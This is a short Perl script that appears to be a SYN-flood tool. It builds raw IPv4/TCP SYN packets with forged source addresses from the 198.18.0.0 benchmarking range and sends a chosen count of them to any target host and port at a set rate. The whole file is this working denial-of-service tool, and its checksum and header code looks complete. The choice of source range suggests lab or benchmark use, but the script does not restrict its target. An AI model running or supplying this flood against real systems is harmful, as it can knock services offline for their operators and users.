# Sends SYNs with forged sources, 198.18.0.0 and on (RFC 2544), as a flood does: flood.pl TARGET PORT COUNT PER_SECOND
use strict;
use warnings;
use Socket;
use Time::HiRes 'sleep';

my ($target, $port, $count, $rate) = @ARGV;
socket(my $raw, AF_INET, SOCK_RAW, 255) or die $!;    # IPPROTO_RAW: the IP header is ours
my $to = inet_aton($target);

sub sum {
    my $sum = 0;
    $sum += $_ for unpack 'n*', $_[0];
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}

for my $i (0 .. $count - 1) {
    my $from = pack 'CCn', 198, 18, ($i * 7919) & 0xffff;
    my @tcp = (1024 + int rand 60000, $port, int rand 2**32, 0, 5 << 4, 2, 512);
    my $segment = pack 'nnNNCCnnn', @tcp, 0, 0;
    my $check = sum($from . $to . pack('xCn', 6, 20) . $segment);
    substr($segment, 16, 2) = pack 'n', $check;
    my $header = pack 'CCnnnCCna4a4', 0x45, 0, 40, $i & 0xffff, 0, 64, 6, 0, $from, $to;
    send($raw, $header . $segment, 0, pack_sockaddr_in($port, $to)) or die $!;
    sleep(1 / $rate);
}
